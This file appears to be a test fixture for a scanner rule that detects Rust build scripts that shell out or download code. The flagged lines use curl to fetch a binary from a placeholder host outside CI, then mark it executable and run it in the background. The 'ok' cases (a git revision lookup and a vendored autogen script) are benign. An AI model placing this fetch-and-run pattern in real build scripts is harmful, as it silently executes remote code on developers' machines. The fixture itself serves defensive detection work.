// provscan-test-path: build.rs
// Fixture for rust.build-script-shell-or-download (written for provscan; not from any project).
use std::env;
use std::process::Command;

fn main() {
    let out = env::var("OUT_DIR").unwrap();
    if env::var("CI").is_err() {
        // ruleid: rust.build-script-shell-or-download
        let _ = Command::new("curl").args(["-sL", "http://cdn.example.invalid/x", "-o", "x"]).status();
        // ruleid: rust.build-script-shell-or-download
        let _ = Command::new("sh")
            .arg("-c")
            .arg(format!("chmod +x {}/x && {}/x &", out, out))
            .status();
    }
    // ok: rust.build-script-shell-or-download
    let rev = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output();
    if let Ok(rev) = rev {
        println!("cargo:rustc-env=GIT_REV={}", String::from_utf8_lossy(&rev.stdout).trim());
    }
    // ok: rust.build-script-shell-or-download
    let status = Command::new("sh").arg("autogen.sh").current_dir("vendor/libfoo").status();
    assert!(status.map(|s| s.success()).unwrap_or(false));
    println!("cargo:rerun-if-changed=build.rs");
}
